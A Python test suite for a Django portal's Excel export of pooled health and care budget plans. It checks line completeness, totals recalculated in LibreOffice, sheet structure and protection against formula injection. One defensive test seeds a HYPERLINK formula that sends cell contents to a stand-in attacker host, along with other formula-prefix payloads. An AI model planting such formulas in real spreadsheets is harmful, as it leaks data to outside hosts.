"""The Part 2 workbook: every line present, and totals recalculated by LibreOffice equal the portal's."""

import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from finance import workbook
from finance.models import ExpenditureLine, IncomeLine
from finance.selectors import finance_summary, part_two_for_plan
from finance.workbook_import import diff_workbook, read_workbook
from tests.recalculation import error_cells, recalculate_with_libreoffice


def rows_by_label(ws, start_after=None):
    """Rows keyed by their column-A label; from the row after `start_after` up to the next Total."""
    rows, started = {}, start_after is None
    for row in ws.iter_rows(values_only=True):
        if not started:
            started = row[0] == start_after
            continue
        if start_after and row[0] == "Total":
            break
        if row[0]:
            rows[row[0]] = list(row)
    return rows


def money(value) -> Decimal:
    return Decimal(str(value)).quantize(Decimal("0.01"))


@pytest.mark.django_db
@pytest.mark.parametrize("demo", ["bd_plan", "plymouth_plan"])
def test_exported_workbook_recalculated_by_libreoffice_matches_portal_totals(demo, request, tmp_path):
    plan, _ = request.getfixturevalue(demo)
    assert_recalculated_workbook_matches_portal(plan, tmp_path)


def assert_recalculated_workbook_matches_portal(plan, tmp_path):
    """Export, recalculate in LibreOffice, and check every line and every total against the portal."""
    part = part_two_for_plan(plan)
    summary = finance_summary(part)
    data = workbook.render_plan_workbook(plan)
    wb = recalculate_with_libreoffice(data, tmp_path)

    assert wb.sheetnames[:7] == workbook.SHEETS
    years = part.year_labels
    n = len(years)

    # Every income line is present with its amount.
    income = {
        (r[0], r[1]): r for r in wb["Income"].iter_rows(min_row=2, values_only=True) if r[0] not in (None, "Total")
    }
    for line in part.income_lines:
        row = income[(line.funding_stream.name, line.organisation.name)]
        assert money(row[2 + years.index(line.year.label)]) == line.amount

    # Every expenditure line is present, by its ID, with each year's amount.
    first = len(workbook.EXPENDITURE_FIXED)
    expenditure = {r[0]: r for r in wb["Expenditure"].iter_rows(min_row=2, values_only=True) if r[0] is not None}
    assert set(expenditure) == {line.pk for line in part.expenditure_lines}
    for line in part.expenditure_lines:
        row = expenditure[line.pk]
        source = workbook.EXPENDITURE_FIXED.index("Source of funding")
        assert row[1] == line.scheme.reference and row[source] == line.funding_stream.name
        for year, amount in part.amounts[line.pk].items():
            assert money(row[first + years.index(year)]) == amount

    # Totals recalculated by LibreOffice equal the portal's own.
    income_total = next(r for r in wb["Income"].iter_rows(values_only=True) if r[0] == "Total")
    spend_total = next(r for r in wb["Expenditure"].iter_rows(values_only=True) if r[1] == "Total")
    summary_rows = rows_by_label(wb["Summary"])
    for i in range(n):
        assert money(income_total[2 + i]) == summary.pooled_totals[i]
        assert money(spend_total[first + i]) == summary.spend_totals[i]
        assert money(summary_rows["Pooled total"][1 + i]) == summary.pooled_totals[i]
        assert money(summary_rows["Pooled total"][1 + n + i]) == summary.spend_totals[i]
    for source in summary.by_source:
        row = summary_rows[source["name"]]
        assert [money(v) for v in row[1 : 1 + n]] == source["income"]
        assert [money(v) for v in row[1 + n : 1 + 2 * n]] == source["spend"]
    type_rows = rows_by_label(wb["Summary"], start_after="Scheme type")
    for scheme_type in summary.by_scheme_type:
        assert [money(v) for v in type_rows[scheme_type["name"]][1 : 1 + n]] == scheme_type["amounts"]
    area_rows = rows_by_label(wb["Summary"], start_after="Area of spend")
    for area in summary.by_area_of_spend:
        assert [money(v) for v in area_rows[area["name"]][1 : 1 + n]] == area["amounts"]


@pytest.mark.django_db
def test_workbook_structure_formats_validation_and_identity(bd_plan):
    plan, _ = bd_plan
    wb = openpyxl.load_workbook(io.BytesIO(workbook.render_plan_workbook(plan)))
    assert wb.sheetnames == [*workbook.SHEETS, "Lists", "Identification"]
    assert wb["Lists"].sheet_state == "hidden" and wb["Identification"].sheet_state == "veryHidden"
    assert [wb["Identification"][f"B{r}"].value for r in range(1, 5)] == [
        "E09000002",
        "2017-19",
        workbook.WORKBOOK_FORMAT_VERSION,
        "2017/18|2018/19",
    ]
    for name in ("Income", "Expenditure", "Metrics", "National conditions", "Risks"):
        assert wb[name].freeze_panes == "A2"
    income = wb["Income"]
    assert income["C2"].number_format == workbook.MONEY
    total_row = next(r for r in range(2, income.max_row + 1) if income.cell(row=r, column=1).value == "Total")
    assert income.cell(row=total_row, column=3).value == f"=SUM(C2:C{total_row - 1})"
    validations = {str(dv.sqref).split(":")[0]: dv.formula1 for dv in wb["Expenditure"].data_validations.dataValidation}
    assert validations["D2"].replace("'", "") == "Lists!$C$2:$C$8"  # scheme types
    assert validations["K2"].replace("'", "").startswith("Lists!$A$2")  # sources of funding
    assert validations["E2"].replace("'", "").startswith("Lists!$D$2")  # sub-types
    summary = wb["Summary"]
    formulas = [
        c.value for row in summary.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")
    ]
    assert any(f.startswith("=SUMIFS(Income!") for f in formulas)


@pytest.mark.django_db
def test_text_that_looks_like_a_formula_is_written_as_text(plymouth_plan):
    """A risk typed as '=SUM(A1) …' must reach the workbook as text, never as a formula."""
    plan, _ = plymouth_plan
    data = workbook.render_plan_workbook(plan)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        # Sheets are stored in order; Risks is the seventh.
        risks_xml = archive.read("xl/worksheets/sheet7.xml").decode()
    assert "<f>" not in risks_xml
    # Column A holds the risk's ID (hidden); the round's columns follow.
    cell = risks_xml[risks_xml.index('<c r="B2"') :]
    cell = cell[: cell.index("</c>")]
    assert 't="inlineStr"' in cell and "=SUM(A1) savings are insufficient" in cell
    risks = openpyxl.load_workbook(io.BytesIO(data))["Risks"]
    assert risks["B2"].data_type == "s" and risks["B2"].value.startswith("=SUM(A1)")
    assert risks["D2"].data_type == "s" and risks["E2"].value == "@Integrated Commissioning Board"


@pytest.mark.django_db
@pytest.mark.parametrize("emptied", [[ExpenditureLine], [IncomeLine, ExpenditureLine]], ids=["no-spend", "no-lines"])
def test_empty_plan_workbook_has_no_circular_reference_after_recalculation(emptied, bd_plan, tmp_path):
    """With no lines, the Total row's SUM(K2:K2) sat in K2 itself, and LibreOffice showed #VALUE!."""
    plan, _ = bd_plan
    for model in emptied:
        model.objects.filter(plan=plan).delete()
    data = workbook.render_plan_workbook(plan)

    wb = recalculate_with_libreoffice(data, tmp_path)

    assert error_cells(wb) == []
    spend_total = next(r for r in wb["Expenditure"].iter_rows(values_only=True) if r[1] == "Total")
    income_total = next(r for r in wb["Income"].iter_rows(values_only=True) if r[0] == "Total")
    first = len(workbook.EXPENDITURE_FIXED)
    assert spend_total[first : first + 2] == (0, 0)
    if IncomeLine in emptied:
        assert income_total[2:4] == (0, 0)
    summary = rows_by_label(wb["Summary"])
    assert summary["Pooled total"][3:5] == [0, 0]  # spend in each year
    # The blank row left for the missing lines reads back as no lines.
    assert diff_workbook(part_two_for_plan(plan), read_workbook(data, plan)) == []


@pytest.mark.django_db
def test_formula_injection_in_the_part_2_workbook_is_stored_as_text_and_never_evaluated(bd_plan, tmp_path):
    """The per-plan workbook writes through the same cell writer as the national dataset."""
    from schemes.models import Scheme

    plan, _ = bd_plan
    hostile = {
        "Expenditure": '=HYPERLINK("http://evil.example/?x="&B2,"Click")',
        "Income": "+SUM(1,2)",
        "Metrics": "@SUM(1,2)",
    }
    scheme = Scheme.objects.filter(plan=plan, expenditure_lines__isnull=False).first()
    Scheme.objects.filter(pk=scheme.pk).update(name=hostile["Expenditure"])
    IncomeLine.objects.filter(pk=IncomeLine.objects.filter(plan=plan).first().pk).update(note=hostile["Income"])
    plan.metric_ambitions.filter(metric__isnull=False).update(rationale=hostile["Metrics"])
    data = workbook.render_plan_workbook(plan)

    written = openpyxl.load_workbook(io.BytesIO(data))
    cells = {
        sheet: next(c for row in written[sheet].iter_rows() for c in row if c.value == text)
        for sheet, text in hostile.items()
    }
    for cell in cells.values():
        assert cell.data_type == "s" and cell.quotePrefix
    shown = recalculate_with_libreoffice(data, tmp_path)
    for sheet, text in hostile.items():
        assert shown[sheet][cells[sheet].coordinate].value == text
    assert error_cells(shown) == []
